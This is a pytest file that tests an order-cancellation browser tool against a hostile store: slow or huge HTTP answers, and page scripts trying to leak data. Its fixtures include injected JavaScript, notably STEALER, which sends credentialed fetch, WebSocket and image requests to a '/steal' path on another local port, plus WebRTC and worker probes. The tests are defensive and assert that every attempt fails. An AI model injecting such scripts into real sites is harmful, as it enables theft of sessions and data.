"""The network edges, with the store as the attacker: a read that drips or floods its answer ends
within a few timeouts with one line, and the browser reaches the store's origin and its asset
origins only: no other port of the store's host, no WebSocket."""
from __future__ import annotations

import json
import socket
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Error, Page

from automation.browser.session import session_file
from automation.settings import Settings
from mock_store import seed
from tests.conftest import CliResult
from tests.hostile_http import Answer, drip, huge, nothing, serving
from tests.store_api import StoreAdmin

Cli = Callable[..., CliResult]
TIMEOUT_S = 2
ORDER = "113-1234567-1234567"
HOSTILE = [pytest.param(drip, "the store did not answer within 2 s", id="one byte a second"),
           pytest.param(huge(declared=True), "over the 16 MiB cap", id="256 MiB declared"),
           pytest.param(huge(declared=False), "over the 16 MiB cap", id="256 MiB streamed without a length")]


def started_a_browser(result: CliResult) -> bool:
    return any(line.get("event") == "browser_started" for line in result.logs)


def save_a_session_for(url: str, cli_env: dict[str, str]) -> None:
    """A saved session for the store at `url`, as `login` leaves one: then `check` reads plainly."""
    settings = Settings(_env_file=None, base_url=url, email=cli_env["ORDERCANCEL_EMAIL"],
                        state_dir=Path(cli_env["ORDERCANCEL_STATE_DIR"]))
    path = session_file(settings)
    path.parent.mkdir(parents=True, mode=0o700)
    cookie = {"name": "session-token", "value": "s3ss10n", "domain": "127.0.0.1", "path": "/", "expires": -1,
              "httpOnly": True, "secure": False, "sameSite": "Lax"}
    path.write_text(json.dumps({"cookies": [cookie], "origins": []}))
    path.chmod(0o600)


def check_against(answer: Answer, cli: Cli, cli_env: dict[str, str],
                  saved_session: bool) -> tuple[CliResult, list[bytes]]:
    with serving(answer) as hostile:
        if saved_session:
            save_a_session_for(hostile.url, cli_env)
        result = cli("check", ORDER, "--json", timeout=120, env={"ORDERCANCEL_BASE_URL": hostile.url,
                     "ORDERCANCEL_ASSET_HOSTS": None, "ORDERCANCEL_TIMEOUT_S": str(TIMEOUT_S)})
        return result, hostile.heads


@pytest.mark.parametrize(("answer", "said"), HOSTILE)
def test_a_plain_read_that_drips_or_floods_ends_with_one_line(answer: Answer, said: str, cli: Cli,
                                                                       cli_env: dict[str, str]) -> None:
    # no wall clock asserted (a busy machine stretches any bound): the message is the one the read's
    # overall deadline or its size cap gives, and the answer was asked for once
    result, heads = check_against(answer, cli, cli_env, saved_session=True)

    assert result.exit_code == 1 and result.json["outcome"] == "error", result.stderr[-2000:]
    assert said in result.json["message"] and "\n" not in result.json["message"]
    assert "Traceback" not in result.stderr
    assert not started_a_browser(result)  # the browser would wait for that store twice as long again
    asked = f"GET /your-orders/order-details?orderID={ORDER} HTTP/1.1".encode()
    assert [head.split(b"\r\n")[0] for head in heads] == [asked]  # once, not again after giving up


@pytest.mark.parametrize(("answer", "said"), HOSTILE[::2])
def test_in_the_browser_a_dripping_or_flooding_page_ends_after_its_two_tries(answer: Answer, said: str, cli: Cli,
                                                                             cli_env: dict[str, str]) -> None:
    # no saved session: the page is read in the browser, whose every wait has the timeout; a tab
    # left "navigating" by such a page used to hold the evidence for minutes (80 s measured)
    result, heads = check_against(answer, cli, cli_env, saved_session=False)

    assert started_a_browser(result)
    assert result.exit_code == 1 and result.json["outcome"] == "error", result.stderr[-2000:]
    assert "the store did not answer within 2 s" in result.json["message"] and "\n" not in result.json["message"]
    assert len(heads) == 2


# A page script that tries the other port of the store's host every way it can, then tells the
# store it ran (a synchronous request, so the store has it before the tool moves on).
STEALER = """
(function () {
  var other = "127.0.0.1:%d";
  try { new WebSocket("ws://" + other + "/steal"); } catch (e) {}
  fetch("http://" + other + "/steal", {mode: "no-cors", credentials: "include"}).catch(function () {});
  new Image().src = "http://" + other + "/steal.gif";
  var told = new XMLHttpRequest();
  told.open("GET", "/__probe/ran", false);
  told.send();
})();
"""


def test_a_page_script_reaches_no_other_port_of_the_store_host(store: StoreAdmin, cli: Cli) -> None:
    with serving(nothing) as elsewhere:
        store.faults(inject_script=STEALER % elsewhere.port)

        checked = cli("check", seed.DEMO_ORDER, "--json")  # no saved session: the browser reads Order Details
        dry_run = cli("cancel", seed.DEMO_ORDER, "--dry-run", "--json")  # the browser opens Cancel items

    assert checked.exit_code == 0 and checked.json["outcome"] == "checked", checked.stderr[-2000:]
    assert dry_run.exit_code == 0 and dry_run.json["outcome"] == "would_cancel", dry_run.stderr[-2000:]
    assert [r["path"] for r in store.requests()].count("/__probe/ran") >= 2  # it ran on both pages
    assert elsewhere.connections == 0  # not the socket, not the fetch, not the image
    assert store.order(seed.DEMO_ORDER).statuses() == {"ordered"}


UNROUTED = """async (other) => {
  const socket = (address) => new Promise((done) => {
    const ws = new WebSocket(address);
    ws.onopen = () => done("open");
    ws.onerror = () => done("refused");
  });
  const fetched = (address) => fetch(address, {mode: "no-cors"}).then(() => "answered", () => "refused");
  const worker = new Worker(URL.createObjectURL(new Blob([
    `new WebSocket("ws://${other}/").onerror = () => postMessage("refused");`])));
  const fromWorker = new Promise((done) => { worker.onmessage = (e) => done(e.data); });
  return [await socket(`ws://${other}/`), await fetched(`http://${other}/`), await fromWorker];
}"""


def test_the_browsers_resolver_alone_refuses_other_ports_of_the_store_host(store: StoreAdmin, page: Page) -> None:
    # this context has none of the tool's routes: only the launch flags (conftest launches the
    # tool's way), which the routes cannot stand in for: they never see a redirect's hops, nor a
    # worker's socket
    with serving(nothing) as elsewhere:
        other = f"127.0.0.1:{elsewhere.port}"
        assert page.goto(f"{store.url}/healthz").status == 200  # the store's origin resolves

        outcome = page.evaluate(UNROUTED, other)
        with pytest.raises(Error, match="ERR_NAME_NOT_RESOLVED"):
            page.goto(f"http://{other}/")  # as a redirect's hop would go

    assert outcome == ["refused", "refused", "refused"]
    assert elsewhere.connections == 0


WEBRTC = """async (address) => {
  const peer = new RTCPeerConnection({iceServers: [{urls: `stun:${address}`}]});
  peer.createDataChannel("out");
  const gathered = new Promise((done) => {
    peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && done("complete");
  });
  await peer.setLocalDescription(await peer.createOffer());
  return await gathered;
}"""


def test_a_page_script_sends_nothing_over_webrtc(store: StoreAdmin, page: Page) -> None:
    # STUN and TURN go to IP addresses below the resolver and the routes
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener:
        listener.bind(("127.0.0.1", 0))
        listener.setblocking(False)
        page.goto(f"{store.url}/healthz")

        assert page.evaluate(WEBRTC, f"127.0.0.1:{listener.getsockname()[1]}") == "complete"

        with pytest.raises(BlockingIOError):
            listener.recv(2048)  # nothing arrived while the browser gathered its candidates
